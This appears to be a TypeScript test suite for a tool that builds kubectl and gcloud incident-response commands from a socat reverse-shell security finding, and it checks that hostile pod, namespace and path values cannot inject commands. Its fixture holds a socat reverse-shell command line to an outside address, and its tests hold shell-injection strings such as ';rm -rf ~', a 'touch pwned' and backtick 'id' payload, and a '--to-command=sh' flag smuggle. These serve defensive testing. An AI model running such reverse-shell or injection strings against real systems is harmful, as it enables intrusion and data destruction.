import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { ClusterRef, ProcessInfo, SocatFinding, Workload } from '../../lib/finding/types.js';
import { buildCommands, localFileFor, MAX_COMMAND_VALUE_CHARS } from '../../lib/report/commands.js';
import { isShellWritable } from '../../lib/shell/quote.js';
import { CANARY_PAYLOADS, runWithStandIns, type RunResult } from '../support/recording-shell.js';

interface FindingOverrides {
  cluster?: Partial<ClusterRef> | null;
  workload?: Partial<Workload>;
  /** undefined: the default path; null: a socat process without binary. */
  binary?: string | null;
  noSocatProcess?: boolean;
}

function makeFinding(o: FindingOverrides = {}): SocatFinding {
  const cluster: ClusterRef | null =
    o.cluster === null
      ? null
      : {
          project: 'shop-prod-123',
          location: 'us-central1-a',
          name: 'prod-cluster',
          locationType: 'zonal',
          resourceName: '//container.googleapis.com/projects/shop-prod-123/locations/us-central1-a/clusters/prod-cluster',
          ...o.cluster,
        };
  const socat: ProcessInfo = {
    name: 'socat',
    binary: o.binary === undefined ? '/usr/bin/socat' : o.binary,
    args: ['socat', 'TCP:203.0.113.7:4444', 'EXEC:/bin/sh'],
    argsTruncated: false,
    pid: 4242,
    parentPid: 1,
  };
  return {
    name: 'organizations/1/sources/2/locations/global/findings/abc',
    category: 'Execution: Socat Reverse Shell Detected',
    projectNumber: null,
    state: 'ACTIVE',
    severity: 'HIGH',
    eventTime: '2025-08-07T10:00:00Z',
    createTime: '2025-08-07T10:00:01Z',
    organization: '1',
    projectDisplayName: 'Shop Prod',
    resourceName: cluster?.resourceName ?? null,
    cluster,
    workload: { namespace: 'payments', pod: 'api-7d9f5-x2x4z', container: 'app', image: 'gcr.io/x/api:1', node: 'gke-node-1', ...o.workload },
    podLabels: null,
    processes: o.noSocatProcess ? [] : [socat],
    socat: o.noSocatProcess ? null : socat,
    securityMarks: {},
    mitre: null,
    notificationConfigName: null,
  };
}

/** What a kubectl invocation addresses, read the way kubectl reads its argv. */
interface Target {
  namespace: string | null;
  pod: string;
  container: string | null;
  /** cp: the remote path; exec: the command. */
  payload: string | string[];
  local?: string;
}

/**
 * A model of kubectl's (pflag's) parsing for exactly the flags these commands
 * use, as checked against real kubectl (see "real kubectl" below): anything
 * else that starts with '-' before `--` would be a flag, so it fails here.
 */
function parseKubectl(argv: readonly string[]): { verb: string; target: Target } {
  const [verb, ...rest] = argv;
  let namespace: string | null = null;
  let container: string | null = null;
  const positional: string[] = [];
  let afterDash: string[] | null = null;
  for (let i = 0; i < rest.length; i++) {
    const a = rest[i]!;
    if (a === '--') {
      afterDash = rest.slice(i + 1);
      break;
    }
    if (a.startsWith('--namespace=')) namespace = a.slice('--namespace='.length);
    else if (a === '-c') container = rest[++i] ?? fail('-c without value');
    else if (a === '-ti' && verb === 'exec') continue;
    else if (a.startsWith('-')) fail(`would be read as a flag: ${JSON.stringify(a)}`);
    else positional.push(a);
  }
  if (verb === 'cp') {
    const operands = [...positional, ...(afterDash ?? [])];
    if (operands.length !== 2) fail(`cp needs 2 operands, got ${JSON.stringify(operands)}`);
    const [src, local] = operands as [string, string];
    if (local.includes(':')) fail('local file would be read as remote');
    const colon = src.indexOf(':');
    if (colon <= 0) fail('source is not remote');
    const pieces = src.slice(0, colon).split('/');
    if (pieces.length > 2) fail('too many / in NS/POD');
    const pod = pieces.length === 2 ? pieces[1]! : pieces[0]!;
    if (pieces.length === 2) namespace = pieces[0]!;
    return { verb, target: { namespace, pod, container, payload: src.slice(colon + 1), local } };
  }
  if (verb === 'exec') {
    if (positional.length !== 1 || afterDash === null) fail(`exec needs POD -- COMMAND, got ${JSON.stringify(rest)}`);
    let pod = positional[0]!;
    if (pod.includes('/')) {
      const parts = pod.split('/');
      if (parts.length !== 2 || parts[0] !== 'pod') fail(`not a pod: ${pod}`);
      pod = parts[1]!;
    }
    return { verb, target: { namespace, pod, container, payload: afterDash } };
  }
  return fail(`unexpected verb ${String(verb)}`);
}

/** A test-title form of a value: JSON with every non-printable-ASCII character escaped, so titles carry no raw controls. */
function show(value: string): string {
  return JSON.stringify(value).replace(/[^\x20-\x7e]/gu, (ch) =>
    [...ch].map((c) => `\\u{${c.codePointAt(0)!.toString(16)}}`).join(''),
  );
}

function fail(message: string): never {
  throw new Error(message);
}

function onlyInvocation(result: RunResult, program: string): string[] {
  expect(result.canaryFiles).toEqual([]);
  expect(result.stderr).toBe('');
  expect(result.exitCode).toBe(0);
  expect(result.invocations).toHaveLength(1);
  expect(result.invocations[0]!.program).toBe(program);
  return result.invocations[0]!.argv;
}

describe('buildCommands: the playbook forms', () => {
  it('builds all three commands for a zonal cluster', () => {
    expect(buildCommands(makeFinding())).toEqual({
      getCredentials: 'gcloud container clusters get-credentials prod-cluster --zone us-central1-a --project shop-prod-123',
      copyBinary: 'kubectl cp payments/api-7d9f5-x2x4z:/usr/bin/socat -c app ./socat-evidence-socat',
      exec: 'kubectl exec --namespace=payments -ti api-7d9f5-x2x4z -c app -- /bin/sh',
    });
  });

  it('uses --region for a regional cluster', () => {
    const f = makeFinding({ cluster: { location: 'us-central1', locationType: 'regional' } });
    expect(buildCommands(f).getCredentials).toBe('gcloud container clusters get-credentials prod-cluster --region us-central1 --project shop-prod-123');
  });

  it('omits -c when the container is unknown or empty', () => {
    for (const container of [null, '']) {
      const c = buildCommands(makeFinding({ workload: { container } }));
      expect(c.copyBinary).toBe('kubectl cp payments/api-7d9f5-x2x4z:/usr/bin/socat ./socat-evidence-socat');
      expect(c.exec).toBe('kubectl exec --namespace=payments -ti api-7d9f5-x2x4z -- /bin/sh');
    }
  });

  it('treats every container name alike (no magic values)', () => {
    for (const container of ['bad', 'null', 'undefined']) {
      expect(buildCommands(makeFinding({ workload: { container } })).exec).toBe(
        `kubectl exec --namespace=payments -ti api-7d9f5-x2x4z -c ${container} -- /bin/sh`,
      );
    }
  });

  it('runs through bash as exactly the playbook argv', async () => {
    const c = buildCommands(makeFinding());
    expect(onlyInvocation(await runWithStandIns(c.getCredentials!), 'gcloud')).toEqual([
      'container', 'clusters', 'get-credentials', 'prod-cluster', '--zone', 'us-central1-a', '--project', 'shop-prod-123',
    ]);
    expect(onlyInvocation(await runWithStandIns(c.copyBinary!), 'kubectl')).toEqual([
      'cp', 'payments/api-7d9f5-x2x4z:/usr/bin/socat', '-c', 'app', './socat-evidence-socat',
    ]);
    expect(onlyInvocation(await runWithStandIns(c.exec!), 'kubectl')).toEqual([
      'exec', '--namespace=payments', '-ti', 'api-7d9f5-x2x4z', '-c', 'app', '--', '/bin/sh',
    ]);
  });
});

describe('buildCommands: missing or unusable facts give null, never a placeholder', () => {
  type Row = [name: string, overrides: FindingOverrides, expected: { getCredentials: boolean; copyBinary: boolean; exec: boolean }];
  const long = '/' + 'a'.repeat(MAX_COMMAND_VALUE_CHARS);
  const rows: Row[] = [
    ['no cluster', { cluster: null }, { getCredentials: false, copyBinary: true, exec: true }],
    ['empty cluster name', { cluster: { name: '' } }, { getCredentials: false, copyBinary: true, exec: true }],
    ['no namespace', { workload: { namespace: null } }, { getCredentials: true, copyBinary: false, exec: false }],
    ['empty namespace', { workload: { namespace: '' } }, { getCredentials: true, copyBinary: false, exec: false }],
    ['no pod', { workload: { pod: null } }, { getCredentials: true, copyBinary: false, exec: false }],
    ['no binary', { binary: null }, { getCredentials: true, copyBinary: false, exec: true }],
    ['no socat process', { noSocatProcess: true }, { getCredentials: true, copyBinary: false, exec: true }],
    ['relative binary (tar would read a flag or the wrong file)', { binary: 'socat' }, { getCredentials: true, copyBinary: false, exec: true }],
    ['binary starting with -', { binary: '--to-command=sh' }, { getCredentials: true, copyBinary: false, exec: true }],
    ['binary is a directory', { binary: '/' }, { getCredentials: true, copyBinary: false, exec: true }],
    ['binary ending in /', { binary: '/usr/bin/' }, { getCredentials: true, copyBinary: false, exec: true }],
    ['binary with \\ (kubectl cp rewrites it to /)', { binary: '/tmp/a\\b' }, { getCredentials: true, copyBinary: false, exec: true }],
    ['binary over the length cap', { binary: long }, { getCredentials: true, copyBinary: false, exec: true }],
    ['container over the cap (dropping -c would target another container)', { workload: { container: 'c'.repeat(MAX_COMMAND_VALUE_CHARS + 1) } }, { getCredentials: true, copyBinary: false, exec: false }],
    ['project over the cap', { cluster: { project: 'p'.repeat(MAX_COMMAND_VALUE_CHARS + 1) } }, { getCredentials: false, copyBinary: true, exec: true }],
    ['NUL in the binary (no argv can carry it)', { binary: '/bin/so\0cat' }, { getCredentials: true, copyBinary: false, exec: true }],
    ['NUL in the container', { workload: { container: 'a\0b' } }, { getCredentials: true, copyBinary: false, exec: false }],
    ['lone surrogate in the pod', { workload: { pod: 'p\uD800' } }, { getCredentials: true, copyBinary: false, exec: false }],
    ['pod with : (cp splits NS/POD:PATH at the first :)', { workload: { pod: 'po:d' } }, { getCredentials: true, copyBinary: false, exec: true }],
    ['pod with / (cp and exec read it as more parts)', { workload: { pod: 'a/b' } }, { getCredentials: true, copyBinary: false, exec: false }],
    ['namespace with / (kubectl refuses it)', { workload: { namespace: 'a/b' } }, { getCredentials: true, copyBinary: false, exec: false }],
    ['cluster name starting with -', { cluster: { name: '-evil' } }, { getCredentials: false, copyBinary: true, exec: true }],
    ['location starting with -', { cluster: { location: '--help' } }, { getCredentials: false, copyBinary: true, exec: true }],
    ['project starting with -', { cluster: { project: '-p' } }, { getCredentials: false, copyBinary: true, exec: true }],
  ];

  it.each(rows)('%s', (_name, overrides, expected) => {
    const c = buildCommands(makeFinding(overrides));
    expect({ getCredentials: c.getCredentials !== null, copyBinary: c.copyBinary !== null, exec: c.exec !== null }).toEqual(expected);
  });

  it('accepts a value of exactly the cap', async () => {
    const binary = '/' + 'a'.repeat(MAX_COMMAND_VALUE_CHARS - 1);
    const cmd = buildCommands(makeFinding({ binary })).copyBinary;
    expect(cmd).not.toBeNull();
    expect(parseKubectl(onlyInvocation(await runWithStandIns(cmd!), 'kubectl')).target.payload).toBe(binary);
  });
});

describe('localFileFor', () => {
  it.each([
    ['/usr/bin/socat', './socat-evidence-socat'],
    ['/tmp/x y/so cat;rm -rf ~', './socat-evidence-socatrm-rf'],
    ['/tmp/\u202Etxt.exe', './socat-evidence-txt.exe'],
    ['/tmp/🐚', './socat-evidence-binary'],
    ['/tmp/..', './socat-evidence-..'],
    ['/tmp/-rf', './socat-evidence--rf'],
  ].map(([binary, expected]) => [show(binary!), binary!, expected!]))('%s', (_title, binary, expected) => {
    expect(localFileFor(binary)).toBe(expected);
  });

  it('caps the name and keeps only [A-Za-z0-9._-]', () => {
    const name = localFileFor('/x/' + 'A:$'.repeat(1000));
    expect(name).toMatch(/^\.\/socat-evidence-[A-Za-z0-9._-]{1,64}$/);
    expect(name).toBe('./socat-evidence-' + 'A'.repeat(64));
  });
});

describe('buildCommands: hostile values reach kubectl/gcloud exactly and run nothing else', () => {
  const absolute = (p: string): string => (p.startsWith('/') ? p : `/tmp/${p}`);

  it.each(CANARY_PAYLOADS.map((p) => [show(absolute(p)), absolute(p)]))('binary path %s', async (_title, binary) => {
    const cmd = buildCommands(makeFinding({ binary })).copyBinary;
    if (binary.includes('\\') || !isShellWritable(binary)) {
      expect(cmd).toBeNull();
      return;
    }
    expect(cmd).not.toBeNull();
    const argv = onlyInvocation(await runWithStandIns(cmd!), 'kubectl');
    expect(argv).toEqual(['cp', `payments/api-7d9f5-x2x4z:${binary}`, '-c', 'app', localFileFor(binary)]);
  });

  it('unprefixed payloads as binary path are refused, not run', () => {
    for (const binary of CANARY_PAYLOADS.filter((p) => !p.startsWith('/'))) {
      expect(buildCommands(makeFinding({ binary })).copyBinary).toBeNull();
    }
  });

  const slots = ['namespace', 'pod', 'container'] as const;
  const cases = slots.flatMap((slot) =>
    [...CANARY_PAYLOADS, '-evil', '--', '-c', 'a:b', '-n=x'].map((payload): [string, string, string] => [slot, show(payload), payload]),
  );

  it.each(cases)('%s = %s: cp and exec address exactly that value or are null', async (slot, _title, payload) => {
    const workload = { namespace: 'payments', pod: 'api-7d9f5-x2x4z', container: 'app', [slot]: payload };
    const c = buildCommands(makeFinding({ workload }));
    const binary = '/usr/bin/socat';
    let built = 0;
    for (const [verb, cmd] of [['cp', c.copyBinary], ['exec', c.exec]] as const) {
      if (cmd === null) continue;
      built++;
      const { verb: seen, target } = parseKubectl(onlyInvocation(await runWithStandIns(cmd), 'kubectl'));
      expect(seen).toBe(verb);
      expect(target).toEqual({
        namespace: workload.namespace,
        pod: workload.pod,
        container: workload.container,
        payload: verb === 'cp' ? binary : ['/bin/sh'],
        ...(verb === 'cp' ? { local: './socat-evidence-socat' } : {}),
      });
    }
    // Null only where kubectl's own syntax cannot express the value.
    // Null only where kubectl's own syntax cannot express the value, or it holds a character no command can show.
    if (!isShellWritable(payload)) expect(built).toBe(0);
    const inexpressible = (slot === 'pod' && /[/:]/.test(payload)) || (slot === 'namespace' && payload.includes('/')) || !isShellWritable(payload);
    if (!inexpressible) expect(built).toBe(2);
    if (slot === 'pod' && payload.includes(':') && !payload.includes('/') && isShellWritable(payload)) expect(c.exec).not.toBeNull();
  });

  it('uses --namespace= and -- (cp) or pod/NAME (exec) for leading-dash names', () => {
    const c = buildCommands(makeFinding({ workload: { namespace: '-ns', pod: '-pod' } }));
    expect(c.copyBinary).toBe('kubectl cp --namespace=-ns -c app -- -pod:/usr/bin/socat ./socat-evidence-socat');
    expect(c.exec).toBe('kubectl exec --namespace=-ns -ti pod/-pod -c app -- /bin/sh');
  });

  const clusterCases = (['name', 'location', 'project'] as const).flatMap((slot) =>
    [...CANARY_PAYLOADS, 'a b', "it's", 'x\ny'].map((payload): [string, string, string] => [slot, show(payload), payload]),
  );

  it.each(clusterCases)('cluster %s = %s: gcloud receives exactly that value or the command is null', async (slot, _title, payload) => {
    for (const locationType of ['zonal', 'regional'] as const) {
      const f = makeFinding({ cluster: { locationType, [slot]: payload } });
      const cmd = buildCommands(f).getCredentials;
      if (payload.startsWith('-') || !isShellWritable(payload)) {
        expect(cmd).toBeNull();
        continue;
      }
      expect(cmd).not.toBeNull();
      const { name, location, project } = f.cluster!;
      expect(onlyInvocation(await runWithStandIns(cmd!), 'gcloud')).toEqual([
        'container', 'clusters', 'get-credentials', name, locationType === 'zonal' ? '--zone' : '--region', location, '--project', project,
      ]);
    }
  });
});

/**
 * The model in parseKubectl is only as good as its match with kubectl. Where a
 * kubectl binary is installed, run the generated commands against a fake API
 * server and read what kubectl actually asks for: the pod, the namespace, the
 * container and the command (`tar cf - PATH` for cp).
 */
const KUBECTL = '/usr/bin/kubectl';
(existsSync(KUBECTL) ? describe : describe.skip)('real kubectl against a fake API server', () => {
  let server: http.Server;
  let dir: string;
  let kubeconfig: string;
  let requests: string[] = [];

  beforeAll(async () => {
    server = http.createServer((req, res) => {
      requests.push(`${req.method} ${req.url}`);
      const url = new URL(req.url ?? '/', 'http://x');
      const json = (code: number, body: unknown): void => {
        res.writeHead(code, { 'content-type': 'application/json' });
        res.end(JSON.stringify(body));
      };
      if (url.pathname === '/api') return json(200, { kind: 'APIVersions', versions: ['v1'], serverAddressByClientCIDRs: [] });
      if (url.pathname === '/apis') return json(200, { kind: 'APIGroupList', apiVersion: 'v1', groups: [] });
      if (url.pathname === '/api/v1') {
        return json(200, {
          kind: 'APIResourceList',
          groupVersion: 'v1',
          resources: [
            { name: 'pods', singularName: 'pod', namespaced: true, kind: 'Pod', verbs: ['get'] },
            { name: 'pods/exec', singularName: '', namespaced: true, kind: 'PodExecOptions', verbs: ['create'] },
          ],
        });
      }
      const m = /^\/api\/v1\/namespaces\/([^/]*)\/pods\/([^/]*)$/.exec(url.pathname);
      if (m && req.method === 'GET') {
        return json(200, {
          kind: 'Pod',
          apiVersion: 'v1',
          metadata: { name: decodeURIComponent(m[2]!), namespace: decodeURIComponent(m[1]!) },
          spec: { containers: [{ name: 'app', image: 'x' }] },
          status: { phase: 'Running' },
        });
      }
      return json(404, { kind: 'Status', apiVersion: 'v1', status: 'Failure', reason: 'NotFound', code: 404 });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    dir = await mkdtemp(path.join(tmpdir(), 'commands-kubectl-'));
    kubeconfig = path.join(dir, 'kubeconfig');
    await writeFile(
      kubeconfig,
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Config',
        clusters: [{ name: 'fake', cluster: { server: `http://127.0.0.1:${port}` } }],
        users: [{ name: 'u', user: { token: 'not-a-secret' } }],
        contexts: [{ name: 'fake', context: { cluster: 'fake', user: 'u', namespace: 'default-ns' } }],
        'current-context': 'fake',
      }),
    );
  });

  afterAll(async () => {
    await new Promise<void>((resolve) => server.close(() => resolve()));
    await rm(dir, { recursive: true, force: true });
  });

  /** The exec request kubectl sent, decoded. */
  async function execRequestOf(command: string): Promise<{ namespace: string; pod: string; container: string | null; command: string[] }> {
    requests = [];
    const result = await runWithStandIns(command, { programs: [], env: { KUBECONFIG: kubeconfig }, timeoutMs: 30_000 });
    expect(result.canaryFiles).toEqual([]);
    const execs = requests.filter((r) => r.startsWith('POST ') && r.includes('/exec?'));
    expect(execs).toHaveLength(1);
    const url = new URL(execs[0]!.slice('POST '.length), 'http://x');
    const m = /^\/api\/v1\/namespaces\/([^/]*)\/pods\/([^/]*)\/exec$/.exec(url.pathname);
    expect(m).not.toBeNull();
    return {
      namespace: decodeURIComponent(m![1]!),
      pod: decodeURIComponent(m![2]!),
      container: url.searchParams.get('container'),
      command: url.searchParams.getAll('command'),
    };
  }

  const findings: Array<[name: string, overrides: FindingOverrides]> = [
    ['playbook values', {}],
    ['leading-dash namespace and pod', { workload: { namespace: '-ns', pod: '-pod' } }],
    ['namespace with :', { workload: { namespace: 'a:b' } }],
    ['container --', { workload: { container: '--' } }],
    ['container starting with -', { workload: { container: '-x' } }],
    ['pod with : (exec only)', { workload: { pod: 'po:d' } }],
    ['hostile binary paths', { binary: '/tmp/x\'; touch $CANARY_DIR/pwned; echo \'$(touch $CANARY_DIR/pwned)`id`!!=x' }],
  ];

  it.each(findings)('%s: kubectl requests exactly the finding\'s pod, container and path', async (_name, overrides) => {
    const f = makeFinding(overrides);
    const c = buildCommands(f);
    const expected = { namespace: f.workload.namespace, pod: f.workload.pod, container: f.workload.container };
    expect(c.exec).not.toBeNull();
    expect(await execRequestOf(c.exec!)).toEqual({ ...expected, command: ['/bin/sh'] });
    if (f.workload.pod!.includes(':')) {
      expect(c.copyBinary).toBeNull();
      return;
    }
    expect(c.copyBinary).not.toBeNull();
    expect(await execRequestOf(c.copyBinary!)).toEqual({ ...expected, command: ['tar', 'cf', '-', f.socat!.binary] });
  });

  it('and every canary payload as binary path', async () => {
    for (const payload of CANARY_PAYLOADS) {
      const binary = payload.startsWith('/') ? payload : `/tmp/${payload}`;
      const cmd = buildCommands(makeFinding({ binary })).copyBinary;
      if (cmd === null) continue; // backslash paths, covered below
      expect((await execRequestOf(cmd)).command).toEqual(['tar', 'cf', '-', binary]);
    }
  });

  it('rewrites \\ in cp paths, which is why such paths get no copy command', async () => {
    // The command buildCommands refuses to emit, written out by hand.
    const request = await execRequestOf(`kubectl cp 'payments/api-7d9f5-x2x4z:/tmp/a\\b' -c app ./out`);
    expect(request.command).toEqual(['tar', 'cf', '-', '/tmp/a/b']);
    expect(buildCommands(makeFinding({ binary: '/tmp/a\\b' })).copyBinary).toBeNull();
  });
});
